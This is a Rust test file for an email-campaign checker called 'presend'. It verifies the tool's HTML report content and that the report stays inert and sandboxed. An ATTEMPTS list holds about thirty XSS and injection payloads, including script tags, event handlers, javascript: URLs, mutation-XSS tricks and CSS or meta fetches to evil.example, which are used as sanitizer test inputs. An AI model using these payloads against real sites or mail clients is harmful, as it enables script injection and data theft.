//! The HTML report from outside: what it says, that marks stand where the faults are, and that nothing gets out of it.

#![allow(clippy::unwrap_used)]

#[path = "common/tree.rs"]
mod tree;

use proptest::prelude::*;
use scraper::{ElementRef, Html, Selector};
use std::process::Command;
use tempfile::TempDir;
use tree::{samples, tree};

/// What `presend check` writes as HTML; a configuration from above is not read.
fn page(tree: &TempDir, args: &str) -> String {
    let mut command = Command::new(env!("CARGO_BIN_EXE_presend"));
    command.env_clear().current_dir(tree.path()).args(["check", "--format", "html"]).args(args.split_whitespace());
    let output = command.output().unwrap();
    assert_ne!(output.status.code(), Some(101), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// The page for one draft.
fn page_of(html: &str) -> String {
    page(&tree(&[("draft.html", html)]), "draft.html")
}

fn all<'h>(html: &'h Html, selector: &str) -> Vec<ElementRef<'h>> {
    html.select(&Selector::parse(selector).unwrap()).collect()
}

fn text(element: ElementRef<'_>) -> String {
    element.text().collect::<String>().split_whitespace().collect::<Vec<_>>().join(" ")
}

fn texts(html: &Html, selector: &str) -> Vec<String> {
    all(html, selector).into_iter().map(text).collect()
}

/// The documents in the frames of a page.
fn frames(page: &str) -> Vec<Html> {
    let outer = Html::parse_document(page);
    let frames = all(&outer, "iframe");
    frames.iter().map(|frame| Html::parse_document(frame.attr("srcdoc").unwrap())).collect()
}

/// Elements that may be in the page and in its frames, beside those of tables and text.
const STRUCTURE: &[&str] = &["html", "head", "meta", "title", "style", "body", "iframe", "img"];
const CONTENT: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "aria-hidden",
    "aria-label",
    "aria-labelledby",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "charset",
    "class",
    "color",
    "colspan",
    "content",
    "data-presend",
    "data-presend-mark",
    "dir",
    "face",
    "height",
    "href",
    "hspace",
    "http-equiv",
    "id",
    "lang",
    "name",
    "nowrap",
    "role",
    "rowspan",
    "sandbox",
    "scope",
    "size",
    "src",
    "srcdoc",
    "start",
    "style",
    "title",
    "valign",
    "vspace",
    "width",
];
const POLICY: &str =
    "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'";

/// Whether a document could run, load or lead anywhere. `Err` says what.
fn is_inert(document: &Html) -> Result<(), String> {
    if !document.tree.root().has_children() {
        return Err("it is empty".to_owned());
    }
    for element in all(document, "*") {
        let name = element.value().name();
        let foreign = &*element.value().name.ns != "http://www.w3.org/1999/xhtml";
        if foreign || !STRUCTURE.contains(&name) && !CONTENT.contains(&name) {
            return Err(format!("an element <{name}>"));
        }
        for (attribute, value) in element.value().attrs() {
            let lower = value.to_ascii_lowercase();
            let known = ATTRIBUTES.contains(&attribute);
            let leads = attribute == "href" && !value.starts_with('#')
                || attribute == "src" && !value.starts_with("data:image/");
            let fetches =
                attribute == "style" && (lower.contains("url") || lower.contains("://") || lower.contains('\\'));
            if !known || leads || fetches {
                return Err(format!("<{name} {attribute}={value:?}>"));
            }
            if attribute == "http-equiv" && value != "Content-Security-Policy" {
                return Err(format!("a meta {value}"));
            }
        }
    }
    for sheet in all(document, "style") {
        let css = sheet.text().collect::<String>().to_ascii_lowercase();
        if css.contains("url(") || css.contains("@import") || css.contains("://") || css.contains('<') {
            return Err(format!("a sheet {css:?}"));
        }
    }
    let policies = all(document, "head > meta[http-equiv='Content-Security-Policy']");
    match policies.as_slice() {
        [policy] if policy.attr("content") == Some(POLICY) => Ok(()),
        _ => Err("no policy of its own".to_owned()),
    }
}

#[track_caller]
fn assert_inert(page: &str) {
    let outer = Html::parse_document(page);
    assert_eq!(is_inert(&outer), Ok(()));
    assert!(all(&outer, "iframe").iter().all(|frame| frame.attr("sandbox") == Some("") && frame.attr("src").is_none()));
    for frame in frames(page) {
        assert_eq!(is_inert(&frame), Ok(()), "{}", frame.html());
        assert_eq!(all(&frame, "iframe, [href]").len(), 0);
    }
}

#[test]
fn the_verdict_is_a_sentence() {
    let tree = samples();
    let verdict = |args: &str| texts(&Html::parse_document(&page(&tree, args)), "h1")[0].clone();
    assert_eq!(verdict("mails/clean.eml"), "✓Ready to send: nothing was found that will be held against this campaign");
    assert_eq!(verdict("mails/catalogs.eml"), "✕Not ready to send: 2 errors have to be mended first");
    assert_eq!(verdict("mails/catalogs.eml --cap-lints warn"), "!Ready to send, with 4 warnings worth a look");
    assert_eq!(verdict("mails"), "✕Not ready to send: 1 of 2 campaigns has errors");
    assert_eq!(verdict("gone.eml"), "?Not ready to send: the campaign could not be checked");
    assert_eq!(verdict("mails/clean.eml gone.eml"), "?Not ready to send: 1 of 2 campaigns could not be checked");
}

#[test]
fn the_reasons_stand_beside_the_verdict_and_an_unreadable_file_says_why() {
    let tree = samples();
    let faulty = Html::parse_document(&page(&tree, "mails/catalogs.eml"));
    assert_eq!(
        texts(&faulty, ".reasons li"),
        [
            "The sender uses a mailbox at outlook.com, where anyone can have one",
            "The merge tag *|FNAME|* was not filled in"
        ]
    );
    let gone = Html::parse_document(&page(&tree, "gone.eml"));
    assert!(texts(&gone, ".unread")[0].to_lowercase().contains("no such file"), "{:?}", texts(&gone, ".unread"));
}

#[test]
fn the_same_run_gives_the_same_page() {
    let tree = samples();
    let once = page(&tree, "mails gone.eml");
    assert_eq!(once, page(&tree, "mails gone.eml --threads 1"));
    assert_inert(&once);
}

#[test]
fn several_campaigns_have_an_overview_that_leads_to_each() {
    let report = Html::parse_document(&page(&samples(), "mails"));
    assert_eq!(texts(&report, ".overview tbody tr"), ["mails/catalogs.eml✕ Not ready22", "mails/clean.eml✓ Ready00"]);
    let targets: Vec<_> = all(&report, "a[href]").iter().map(|link| link.attr("href").unwrap().to_owned()).collect();
    assert!(targets.len() >= 4);
    for target in targets {
        let id = format!("[id='{}']", target.trim_start_matches('#'));
        assert_eq!(all(&report, &id).len(), 1, "{target}");
    }
}

#[test]
fn each_finding_has_a_card_with_its_lines_and_each_lint_its_page_once() {
    let report = Html::parse_document(&page(&samples(), "mails/catalogs.eml"));
    assert_eq!(texts(&report, ".card .card-head .badge"), ["1", "2", "3", "4"]);
    assert_eq!(texts(&report, "#c1-f1 mark.primary"), ["outlook.com"]);
    assert_eq!(texts(&report, "#c1-f1 .place"), ["header From · line 2, column 35"]);
    assert_eq!(texts(&report, "#c1-f1 .code .line"), ["2"]);
    assert!(texts(&report, "#c1-f1 .help")[0].starts_with("What to do: send from your own domain"));
    assert!(texts(&report, "#c1-f3 .code mark").contains(&"https://options.yahoo.com/u/7kq2".to_owned()), "decoded");
    let page = &texts(&report, "#lint-freemail-sender")[0];
    assert!(
        page.contains("Use instead") && page.contains("From: \"Shoppers Handbag\" <marketing@shoppershandbag.com>")
    );
}

#[test]
fn the_inbox_shows_sender_subject_and_preheader() {
    let report = Html::parse_document(&page(&samples(), "mails/catalogs.eml"));
    let rows = texts(&report, ".inbox dl div");
    assert_eq!(rows[0], "From\"Shoppers Handbag\" <someone@outlook.com> 1");
    assert_eq!(rows[1], "Addresssomeone@outlook.com");
    assert_eq!(rows[2], "SubjectUpdated catalog for the Christmas season, *|FNAME|*! 2");
    assert!(rows[3].starts_with("PreheaderUpdated catalog for the Christmas season Our winter bags"), "{}", rows[3]);
    let draft = Html::parse_document(&page_of("<p>Hello"));
    assert!(texts(&draft, ".inbox dl")[0].contains("Subjectnot known: this is a draft that does not say it"));
}

#[test]
fn charts_have_their_numbers_beside_them() {
    let report = Html::parse_document(&page(&samples(), "mails/catalogs.eml"));
    let bars = texts(&report, ".bars li");
    assert_eq!(bars, ["shoppershandbag.com2", "bulkmailer.com1", "excite.com1", "yahoo.com1"]);
    assert!(texts(&report, ".legend")[0].contains("1 image, 84 % of the area"), "{:?}", texts(&report, ".legend"));
}

#[test]
fn marks_stand_at_the_elements_that_the_labels_are_in() {
    let frame = &frames(&page(&samples(), "mails/catalogs.eml"))[0];
    let marked = |selector: &str| texts(frame, selector);
    assert_eq!(marked("a[data-presend-mark='warning']"), ["3Update your profile"]);
    assert_eq!(marked("a[data-presend-mark='warning other']"), ["3Unsubscribe", "3Email preferences"]);
    assert_eq!(marked("b[data-presend='badge warning']"), ["3", "3", "3", "4"]);
    assert_eq!(all(frame, "[data-presend=pixel][data-presend-mark]").len(), 1);

    let frame = &frames(&page_of("<p>a &amp; b</p><p>c&nbsp;&mdash; Lorem ipsum dolor sit amet &lt;d&gt;</p>"))[0];
    assert_eq!(texts(frame, "p > span[data-presend-mark]"), ["Lorem ipsum dolor"]);
}

#[test]
fn remote_images_are_boxes_of_their_size_with_their_alternative_text() {
    let frame = &frames(&page_of(
        "<img src='https://a.example/x.png' width='300' height=120 alt='A &quot;bag&quot;'>\
         <img src='https://a.example/y.png' style='width:40px;height:30px'><img src='cid:nobody' width=100% alt=c>",
    ))[0];
    let boxes = all(frame, "[data-presend=image]");
    let styles: Vec<_> = boxes.iter().map(|one| one.attr("style").unwrap()).collect();
    assert_eq!(styles[0], "width:300px;max-width:100%;height:120px;display:inline-block;");
    assert!(styles[1].contains("width:40px;max-width:100%;height:30px;"), "{styles:?}");
    assert!(styles[2].starts_with("width:100%;"), "{styles:?}");
    assert_eq!(boxes.iter().map(|one| text(*one)).collect::<Vec<_>>(), ["A \"bag\"", "image, 40 × 30", "c"]);
    assert_eq!(all(frame, "img").len(), 0);
}

#[test]
fn small_raster_images_of_the_message_are_shown_and_nothing_else() {
    let mail = |kind: &str, data: &str| {
        format!(
            "From: a@b.example\nSubject: x\nDate: x\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n\
             <img src=\"cid:one\" width=10 alt=one>\n--b\nContent-Type: {kind}\nContent-ID: <one>\n\
             Content-Transfer-Encoding: base64\n\n{data}\n--b--\n"
        )
    };
    let shown = |kind, data: &str| {
        let page = page(&tree(&[("a.eml", &mail(kind, data))]), "a.eml");
        assert_inert(&page);
        all(&frames(&page)[0], "img").first().map(|image| image.attr("src").unwrap().to_owned())
    };
    assert_eq!(shown("image/png", "iVBORw0KGgo="), Some("data:image/png;base64,iVBORw0KGgo=".to_owned()));
    assert_eq!(shown("image/svg+xml", "PHN2Zz48c2NyaXB0Pjwvc2NyaXB0Pjwvc3ZnPg=="), None);
    assert_eq!(shown("image/png", "PHN2Zz48c2NyaXB0Pjwvc2NyaXB0Pjwvc3ZnPg=="), None);
    assert_eq!(shown("image/png", &format!("iVBORw0KGgo{}", "A".repeat(200_001))), None, "too large");
}

#[test]
fn merge_tags_are_shown_as_they_are_written() {
    let frame = &frames(&page_of("<p>Dear {{ first_name }},</p>{% if x < 3 %}<p title='{{ y }}'>z</p>{% endif %}"))[0];
    assert_eq!(texts(frame, "[data-presend=tag]"), ["{{ first_name }}", "{% if x < 3 %}", "{% endif %}"]);
    assert_eq!(texts(frame, "p"), ["Dear {{ first_name }},", "z"]);
}

#[test]
fn mjml_is_laid_out_roughly_and_says_so() {
    let fixture = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/mjml/catalog.mjml")).unwrap();
    let page = page(&tree(&[("a.mjml", &fixture)]), "a.mjml");
    assert!(page.contains("A rough layout of the MJML source, which is not compiled here"));
    assert_inert(&page);
    assert!(!texts(&frames(&page)[0], "body")[0].is_empty());
}

/// Attempts to get out, each of them alone in the world.
const ATTEMPTS: &[&str] = &[
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1><script>1</script><use href='https://evil.example/x#y'/></svg>",
    "<a href=\"javascript:window.__pwned=1\">x</a><a href='jav&#x09;ascript:1'>y</a>",
    "</iframe><script>window.__pwned=1</script>",
    "\"></iframe><script>window.__pwned=1</script>",
    "</textarea></title></style></noscript><script>window.__pwned=1</script>",
    "]]><script>window.__pwned=1</script>",
    "<iframe srcdoc=\"&lt;script&gt;window.__pwned=1&lt;/script&gt;\"></iframe>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.__pwned=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\"></noscript>",
    "<template><script>window.__pwned=1</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>window.__pwned=1</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(https://evil.example/x)}</style><p style=\"background:url('https://evil.example/y')\">x",
    "<p style=\"background:u\\72l(//evil.example/y);font-family:'</style><script>window.__pwned=1</script>'\">x",
    "<style>a[title='</style><script>window.__pwned=1</script>']{color:red}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)} p{font-family:x}</style><p>x",
    "<p title='\"><script>window.__pwned=1</script>' lang='\" onmouseover=\"window.__pwned=1'>x",
    "<table background=https://evil.example/b width='1\" onclick=\"window.__pwned=1'><td background=//evil.example/c>x",
    "<object data=https://evil.example/o></object><embed src=//evil.example/e><video poster=//evil.example/v src=x></video>",
    "<form action=https://evil.example/f><input type=image src=//evil.example/i><button formaction=javascript:1>b</button></form>",
    "<img srcset='https://evil.example/1 1x' src='data:image/svg+xml,<svg onload=window.__pwned=1>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4=' alt='\"><script>window.__pwned=1</script>'>",
    "<xmp><script>window.__pwned=1</script></xmp><plaintext><script>window.__pwned=1</script>",
    "<!--[if mso]><script>window.__pwned=1</script><![endif]--><!--> <script>window.__pwned=1</script> -->",
    "<select><option><script>window.__pwned=1</script></select><textarea></textarea><script>window.__pwned=1</script>",
    "{{ '<script>window.__pwned=1</script>' }} *|<script>window.__pwned=1</script>|* <p class=\"{{ x \">",
    "<body onload=window.__pwned=1 background=https://evil.example/b style='background-image:url(//evil.example/c)'>x",
    "<p>safe\u{202e}desrever\u{2066}x\u{0}\u{1b}[31m</p>",
    "<div id=c1 class='verdict wide' style='position:fixed;inset:0;z-index:99'>Ready to send</div>",
];

#[test]
fn no_attempt_gets_out_of_its_frame() {
    for attempt in ATTEMPTS {
        let page = page_of(&format!("<p>before</p>{attempt}<p>after</p>"));
        assert_inert(&page);
        assert!(texts(&frames(&page)[0], "body")[0].starts_with("before"), "{attempt}");
    }
}

#[test]
fn no_attempt_gets_out_of_names_fields_and_texts() {
    for (nth, attempt) in ATTEMPTS.iter().enumerate().filter(|(_, attempt)| !attempt.contains(['\0', '\n'])) {
        let name = format!("{}{nth}.eml", attempt.replace(['/', '\\'], "|").chars().take(60).collect::<String>());
        let mail = format!(
            "From: \"{0}\" <{0}@b.example>\nReply-To: {0}\nSubject: {0}\nDate: x\nContent-Type: text/plain; charset=utf-8\n\n\
             {0} Lorem ipsum dolor sit amet\n",
            attempt
        );
        let tree = tree(&[(&name, &mail)]);
        let page = page(&tree, ".");
        assert_inert(&page);
        assert!(!page.contains('\u{202e}') && !page.contains('\u{1b}'), "{attempt}");
        let frame = &frames(&page)[0];
        let shown = &texts(frame, "pre")[0];
        assert!(shown.contains("Lorem ipsum dolor sit amet"), "{attempt}: {shown}");
    }
}

#[test]
fn hundreds_of_campaigns_give_a_usable_page() {
    let files: Vec<(String, String)> =
        (0..300).map(|nth| (format!("{nth:04}.html"), format!("<p>Lorem ipsum dolor sit amet {nth}</p>"))).collect();
    let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    let page = page(&tree(&files), ".");
    assert!(page.len() < 3 << 20, "{} bytes", page.len());
    let report = Html::parse_document(&page);
    assert_eq!(all(&report, ".overview tbody tr").len(), 300);
    assert_eq!(all(&report, "iframe").len(), 40);
    assert!(texts(&report, "footer")[0].contains("260 campaigns are shown without a picture"));
}

#[test]
fn it_can_stand_beside_other_reports() {
    let tree = samples();
    let mut command = Command::new(env!("CARGO_BIN_EXE_presend"));
    command.env_clear().current_dir(tree.path()).args([
        "check",
        "mails",
        "--format",
        "short",
        "--output",
        "html=report.html",
    ]);
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(std::fs::read_to_string(tree.path().join("report.html")).unwrap(), page(&tree, "mails"));
}

/// Pieces that markup is made of, right and wrong.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(ATTEMPTS).prop_map(str::to_owned),
        4 => "</?(p|a|table|tr|td|svg|math|style|script|title|textarea|template|noscript|select|form|iframe|b|font|mtext|mglyph)( (href|src|style|onclick|id|class|title)=[\"']?(javascript:1|url\\(//e\\)|https://e|x)[\"']?){0,2}/?>",
        1 => "<!--|-->|<!\\[CDATA\\[|\\]\\]>|\\{\\{|\\}\\}|\\{% if|%\\}|&lt;script&gt;|\"|'|>|<|&#x3c;",
        1 => "\\PC{0,6}",
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

/// The page for a draft, made without starting the program.
fn drawn(html: &str) -> String {
    use presend::config::{Settings, levels::Levels};
    use presend::facts::preview::Preview;
    use presend::lint::lint_and_look;
    use presend::report::{FileReport, Format, Options, Summary};
    use presend::source::{NoIncludes, Source};
    let source = Source::new("draft.html", None, html.as_bytes().to_vec(), None);
    let registry = &presend::lints::REGISTRY;
    let (settings, levels) = (Settings::default(), Levels::new(&registry.known()));
    let mut preview = None;
    let mut linted = lint_and_look(&source, &NoIncludes, registry, &settings, &levels, |facts| {
        preview = Some(Box::new(Preview::of(facts)));
    });
    linted.preview = preview;
    let file = FileReport::linted(source.name.clone(), linted);
    let (mut report, mut out, mut summary) = (Format::Html.report(Options::default()), Vec::new(), Summary::default());
    summary.add(&file);
    report.file(&mut out, &file).unwrap();
    report.finish(&mut out, &summary).unwrap();
    String::from_utf8(out).unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn whatever_goes_in_what_comes_out_is_inert(html in soup()) {
        let page = drawn(&html);
        prop_assert_eq!(is_inert(&Html::parse_document(&page)), Ok(()));
        for frame in frames(&page) {
            prop_assert_eq!(is_inert(&frame), Ok(()), "{}", frame.html());
        }
    }
}

#[test]
fn campaigns_of_one_name_are_told_apart_by_who_listens() {
    let message = "From a@example.com Thu Jan  1 00:00:00 2026\nFrom: a@example.com\nSubject: News\nDate: Fri, 20 Nov 2026 10:00:00 +0000\n\nOur news.\n\n";
    let page = Html::parse_document(&page(&tree(&[("box.mbox", &message.repeat(2))]), "box.mbox"));
    let labels: Vec<_> =
        all(&page, "section.campaign").iter().map(|section| section.attr("aria-label").unwrap()).collect();
    assert_eq!(labels, ["Campaign 1", "Campaign 2"]);
}
